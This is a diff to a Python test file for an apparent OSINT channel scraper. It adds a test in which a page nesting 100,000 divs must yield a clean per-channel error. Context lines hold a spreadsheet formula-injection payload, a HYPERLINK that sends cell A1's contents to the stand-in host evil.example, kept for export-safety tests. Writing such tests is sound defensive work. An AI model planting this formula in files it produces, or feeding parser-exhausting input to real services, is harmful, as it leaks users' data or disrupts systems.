@@ -131,6 +131,18 @@ def _web_parser_crash(tmp: Path) -> None:
     assert runs == [("partial", "boom_channel", "error"), ("partial", "osint_demo", "ok")]
 
 
+@case("web-page-100k-nested-divs")
+def _web_nested(tmp: Path) -> None:
+    """A page nesting 100,000 divs (28 s to parse: the HTML parser's time grows with the square of the depth)."""
+    pages = {"/s/deep_channel": "<div>" * 100_000 + PAGE.replace("osint_demo", "deep_channel"),
+             "/s/osint_demo": PAGE}
+    report, runs = web_pass(tmp, pages, ["deep_channel", "osint_demo"])
+    outcomes = {c.input: (c.outcome, c.error or "") for c in report.channels}
+    assert outcomes["deep_channel"][0] == "error" and "nests elements 100,0" in outcomes["deep_channel"][1]
+    assert outcomes["osint_demo"] == ("ok", "")
+    assert runs == [("partial", "deep_channel", "error"), ("partial", "osint_demo", "ok")]
+
+
 # -- files written for other programs (items 17 and 19) ------------------------------------------------------------
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
